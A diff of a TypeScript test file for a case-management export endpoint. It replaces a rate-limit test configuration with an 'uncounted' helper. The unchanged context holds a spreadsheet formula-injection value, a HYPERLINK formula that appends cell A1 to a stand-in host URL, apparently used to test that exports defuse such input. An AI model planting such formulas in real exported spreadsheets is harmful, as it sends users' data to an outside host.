@@ -1,8 +1,7 @@
 import { createHash } from 'node:crypto';
 import { strFromU8, unzipSync } from 'fflate';
 import { exportPurposes } from '@casetrail/contracts';
-import { usualEdge } from '@casetrail/runtime';
-import { TestApi, type Who, actors, ago, problemIn } from './testing/index.ts';
+import { TestApi, type Who, actors, ago, problemIn, uncounted } from './testing/index.ts';
 import { detainedSuspect, filing, identifiedGroup, openCase, receivedLead, report, servedRecommendation } from './testing/stories.ts';
 
 const exports = '/v1/exports';
@@ -10,7 +9,7 @@ const formula = '=HYPERLINK("http://x.invalid/"&A1,"案卷")';
 let api: TestApi;
 let file: string;
 beforeAll(async () => {
-  api = await TestApi.start({ edge: { ...usualEdge, exportRows: 20, rates: { reads: 0, writes: 0, strangers: 0 } } });
+  api = await TestApi.start({ edge: { ...uncounted, exportRows: 20 } });
   await api.openLedger('demo');
   file = await openCase(api);
   await detainedSuspect(api, file);
